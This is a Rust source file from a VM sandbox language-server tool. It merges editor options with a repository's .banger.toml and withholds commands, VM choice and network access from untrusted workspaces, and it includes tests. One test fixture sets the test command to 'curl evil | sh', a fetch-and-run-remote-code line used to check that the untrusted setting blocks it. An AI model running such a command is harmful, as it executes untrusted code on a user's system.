//! The editor's settings and the repository's `.banger.toml`, merged
//! (editor settings win), and the VM a repository binds to.

use std::path::Path;

use serde::Deserialize;

/// What `banger lsp` is configured with.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Settings {
    /// The VM to use; default: one named after the repository.
    pub vm: Option<String>,
    /// The test command (a shell command line); default: detected.
    pub test_command: Option<String>,
    /// Sync each save and each change seen on disk.
    pub sync_on_save: bool,
    /// Virtual CPUs of a VM this server creates.
    pub vcpu: Option<u32>,
    /// Memory of a VM this server creates, in MiB.
    pub memory_mib: Option<u64>,
    /// Outbound network access for a VM this server creates.
    pub nat: bool,
    /// Egress rules for a VM this server creates (`HOST[:PORT]`,
    /// `*.DOMAIN`): only these destinations.
    pub allow: Vec<String>,
    /// Whether the workspace is trusted: an untrusted one never runs a
    /// command named by the repository's own `.banger.toml`.
    pub trusted: bool,
    /// The image a VM this server creates boots.
    pub image: Option<String>,
    /// The project's setup command (`.banger.toml` only, trusted).
    pub setup: Option<String>,
    /// The files the setup reads.
    pub setup_inputs: Vec<String>,
    /// Mount the repository's dependency cache (`.banger.toml` `cache`).
    pub cache: bool,
}

impl Default for Settings {
    fn default() -> Settings {
        Settings {
            vm: None,
            test_command: None,
            sync_on_save: true,
            vcpu: None,
            memory_mib: None,
            nat: false,
            allow: Vec::new(),
            trusted: true,
            image: None,
            setup: None,
            setup_inputs: Vec::new(),
            cache: true,
        }
    }
}

/// Settings as an editor sends them (every field optional).
#[derive(Debug, Default, Clone, Deserialize)]
#[serde(rename_all = "camelCase")]
struct EditorSettings {
    vm: Option<String>,
    test_command: Option<String>,
    sync_on_save: Option<bool>,
    vcpu: Option<u32>,
    memory: Option<serde_json::Value>,
    nat: Option<bool>,
    allow: Option<Vec<String>>,
    trusted: Option<bool>,
    image: Option<String>,
}

/// Memory as `2048` (MiB) or `"2G"`.
fn memory_mib(v: &serde_json::Value) -> Result<u64, String> {
    match v {
        serde_json::Value::Number(n) => n.as_u64().ok_or_else(|| format!("bad memory {n}")),
        serde_json::Value::String(s) => crate::spec::parse_size(s)
            .map(|b| b >> 20)
            .map_err(|e| e.to_string()),
        other => Err(format!("bad memory {other}")),
    }
}

/// The editor's part of the options: `{"banger": {...}}`, `{"banger.vm":
/// ...}` or the fields at the top level.
fn editor_part(options: &serde_json::Value) -> EditorSettings {
    let obj = match options.get("banger") {
        Some(inner @ serde_json::Value::Object(_)) => inner.clone(),
        _ => {
            let mut flat = serde_json::Map::new();
            if let serde_json::Value::Object(map) = options {
                for (k, v) in map {
                    flat.insert(
                        k.strip_prefix("banger.").unwrap_or(k).to_string(),
                        v.clone(),
                    );
                }
            }
            serde_json::Value::Object(flat)
        }
    };
    serde_json::from_value(obj).unwrap_or_default()
}

/// Merges the repository's file and the editor's options. Problems (a bad
/// `.banger.toml`) are returned as warnings; what is valid still applies.
pub fn resolve(repo_root: &Path, options: &serde_json::Value) -> (Settings, Vec<String>) {
    let mut warnings = Vec::new();
    let mut s = Settings::default();
    let editor = editor_part(options);
    s.trusted = editor.trusted.unwrap_or(true);
    match crate::project::load(repo_root) {
        Ok(Some(sb)) => {
            // An untrusted repository picks neither the command that runs
            // (its tests, its setup) nor the VM it runs in (another
            // repository's VM). Nor does it give its sandbox a way out to
            // the network.
            if s.trusted {
                s.vm = sb.vm.clone();
                s.test_command = sb.test_command.clone();
                s.nat = sb.nat.unwrap_or(false);
                s.allow = sb.allow.clone().unwrap_or_default();
                s.setup = sb.setup.clone();
                s.setup_inputs = sb.setup_inputs.clone().unwrap_or_default();
            } else if sb.asks_for_trust() {
                warnings.push(
                    ".banger.toml names a test command, a setup, a VM or network access; they are ignored until the workspace is trusted"
                        .into(),
                );
            }
            s.vcpu = sb.vcpu;
            s.image = sb.image.clone();
            s.cache = sb.cache.unwrap_or(true);
            match sb.memory_mib() {
                Ok(mib) => s.memory_mib = mib,
                Err(e) => warnings.push(format!(".banger.toml: {e}")),
            }
        }
        Ok(None) => {}
        Err(e) => warnings.push(e),
    }
    if editor.vm.as_deref().is_some_and(|v| !v.is_empty()) {
        s.vm = editor.vm;
    }
    if editor
        .test_command
        .as_deref()
        .is_some_and(|v| !v.is_empty())
    {
        s.test_command = editor.test_command;
    }
    if let Some(b) = editor.sync_on_save {
        s.sync_on_save = b;
    }
    if editor.vcpu.is_some() {
        s.vcpu = editor.vcpu;
    }
    if let Some(nat) = editor.nat {
        s.nat = nat;
    }
    if let Some(allow) = editor.allow {
        s.allow = allow;
    }
    if editor.image.as_deref().is_some_and(|v| !v.is_empty()) {
        s.image = editor.image;
    }
    // Rules are checked here too: a bad one is a warning, not a sandbox
    // that fails to start.
    s.allow
        .retain(|a| match a.parse::<crate::net::egress::AllowRule>() {
            Ok(_) => true,
            Err(e) => {
                warnings.push(e);
                false
            }
        });
    if let Some(m) = editor.memory.as_ref().filter(|m| !m.is_null()) {
        match memory_mib(m) {
            Ok(mib) => s.memory_mib = Some(mib),
            Err(e) => warnings.push(format!("banger.memory: {e}")),
        }
    }
    (s, warnings)
}

/// The default VM name of a repository: its directory's name made a valid
/// VM name.
pub fn base_vm_name(repo_root: &Path) -> String {
    let raw = repo_root
        .file_name()
        .map(|n| n.to_string_lossy().to_lowercase())
        .unwrap_or_default();
    let mut name = String::new();
    for c in raw.chars() {
        let c = if c.is_ascii_lowercase() || c.is_ascii_digit() {
            c
        } else {
            '-'
        };
        if !(c == '-' && (name.is_empty() || name.ends_with('-'))) {
            name.push(c);
        }
    }
    name.truncate(48);
    let name = name.trim_end_matches('-').to_string();
    if name.is_empty() { "repo".into() } else { name }
}

/// The base name with a short hash of the repository's path: what a repo
/// gets when another repository already holds the base name.
pub fn suffixed_vm_name(repo_root: &Path) -> String {
    use sha2::Digest as _;
    let digest = sha2::Sha256::digest(repo_root.as_os_str().as_encoded_bytes());
    let hex: String = digest.iter().take(3).map(|b| format!("{b:02x}")).collect();
    format!("{}-{hex}", base_vm_name(repo_root))
}

/// Which VM a repository binds to, given the VMs that exist (name and the
/// repository its workspace came from): the base name unless another
/// repository holds it.
pub fn choose_vm_name<'a>(
    repo_root: &Path,
    existing: impl IntoIterator<Item = (&'a str, Option<&'a str>)>,
) -> String {
    let base = base_vm_name(repo_root);
    let root = repo_root.display().to_string();
    for (name, source) in existing {
        if name == base && source != Some(root.as_str()) {
            return suffixed_vm_name(repo_root);
        }
    }
    base
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn editor_settings_win_over_the_repo_file() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join(".banger.toml"),
            "[sandbox]\nvm = \"from-file\"\ntest-command = \"make check\"\nvcpu = 2\nmemory = \"1G\"\n",
        )
        .unwrap();
        let (s, w) = resolve(dir.path(), &json!(null));
        assert!(w.is_empty(), "{w:?}");
        assert_eq!(s.vm.as_deref(), Some("from-file"));
        assert_eq!(s.test_command.as_deref(), Some("make check"));
        assert_eq!((s.vcpu, s.memory_mib), (Some(2), Some(1024)));
        let (s, _) = resolve(
            dir.path(),
            &json!({"banger": {"vm": "mine", "testCommand": "cargo test", "memory": 2048, "syncOnSave": false}}),
        );
        assert_eq!(s.vm.as_deref(), Some("mine"));
        assert_eq!(s.test_command.as_deref(), Some("cargo test"));
        assert_eq!(s.memory_mib, Some(2048));
        assert!(!s.sync_on_save);
        // Dotted keys, as some clients flatten them.
        let (s, _) = resolve(dir.path(), &json!({"banger.vcpu": 4}));
        assert_eq!(s.vcpu, Some(4));
    }

    #[test]
    fn an_untrusted_workspace_ignores_the_repos_command() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join(".banger.toml"),
            "[sandbox]\ntest-command = \"curl evil | sh\"\nvm = \"someone-elses\"\n",
        )
        .unwrap();
        let (s, w) = resolve(dir.path(), &json!({"trusted": false}));
        assert_eq!(s.test_command, None);
        assert_eq!(s.vm, None);
        assert_eq!(w.len(), 1);
    }

    #[test]
    fn network_access_comes_from_a_trusted_repo_file_or_the_editor() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join(".banger.toml"), "[sandbox]\nnat = true\n").unwrap();
        let (s, w) = resolve(dir.path(), &json!({}));
        assert!(s.nat && w.is_empty(), "{w:?}");
        // An untrusted repository does not give itself the network.
        let (s, w) = resolve(dir.path(), &json!({"trusted": false}));
        assert!(!s.nat);
        assert_eq!(w.len(), 1);
        // The editor's setting wins either way.
        let (s, _) = resolve(dir.path(), &json!({"banger.nat": false}));
        assert!(!s.nat);
        let empty = tempfile::tempdir().unwrap();
        let (s, _) = resolve(empty.path(), &json!({"banger": {"nat": true}}));
        assert!(s.nat);
        assert!(!resolve(empty.path(), &json!({})).0.nat);
        std::fs::write(
            dir.path().join(".banger.toml"),
            "[sandbox]\nallow = [\"pypi.org\", \"*.pythonhosted.org\", \"bad host\"]\n",
        )
        .unwrap();
        let (s, w) = resolve(dir.path(), &json!({}));
        assert_eq!(s.allow, ["pypi.org", "*.pythonhosted.org"]);
        assert_eq!(w.len(), 1, "{w:?}");
        let (s, _) = resolve(dir.path(), &json!({"trusted": false}));
        assert!(s.allow.is_empty());
    }

    #[test]
    fn a_setup_comes_only_from_a_trusted_repo_file_and_the_image_from_either() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join(".banger.toml"),
            "[sandbox]\nimage = \"py\"\nsetup = \"pip install -r r.txt\"\nsetup-inputs = [\"r.txt\"]\n",
        )
        .unwrap();
        let (s, w) = resolve(dir.path(), &json!({}));
        assert!(w.is_empty(), "{w:?}");
        assert_eq!(s.setup.as_deref(), Some("pip install -r r.txt"));
        assert_eq!(s.setup_inputs, ["r.txt"]);
        assert_eq!(s.image.as_deref(), Some("py"));
        let (s, w) = resolve(dir.path(), &json!({"trusted": false}));
        assert_eq!((s.setup, s.image.as_deref()), (None, Some("py")));
        assert_eq!(w.len(), 1, "{w:?}");
        let (s, _) = resolve(dir.path(), &json!({"banger": {"image": "mine"}}));
        assert_eq!(s.image.as_deref(), Some("mine"));
    }

    #[test]
    fn a_bad_repo_file_is_a_warning_not_a_failure() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join(".banger.toml"), "[sandbox]\nvmm = 1\n").unwrap();
        let (s, w) = resolve(dir.path(), &json!({}));
        assert_eq!(s, Settings::default());
        assert_eq!(w.len(), 1);
    }

    #[test]
    fn vm_names_follow_the_directory_and_avoid_collisions() {
        assert_eq!(
            base_vm_name(Path::new("/src/My_Project.rs")),
            "my-project-rs"
        );
        assert_eq!(base_vm_name(Path::new("/src/__")), "repo");
        let long = "x".repeat(80);
        assert_eq!(base_vm_name(Path::new(&format!("/{long}"))).len(), 48);
        for name in [
            base_vm_name(Path::new("/a/Über")),
            suffixed_vm_name(Path::new("/a/b")),
        ] {
            crate::spec::validate_name(&name).unwrap();
        }
        let me = Path::new("/home/u/app");
        assert_eq!(choose_vm_name(me, [("app", Some("/home/u/app"))]), "app");
        assert_eq!(choose_vm_name(me, [("other", None)]), "app");
        let taken = choose_vm_name(me, [("app", Some("/home/v/app"))]);
        assert!(taken.starts_with("app-") && taken.len() == 10, "{taken}");
        assert_eq!(taken, choose_vm_name(me, [("app", None)]));
    }
}
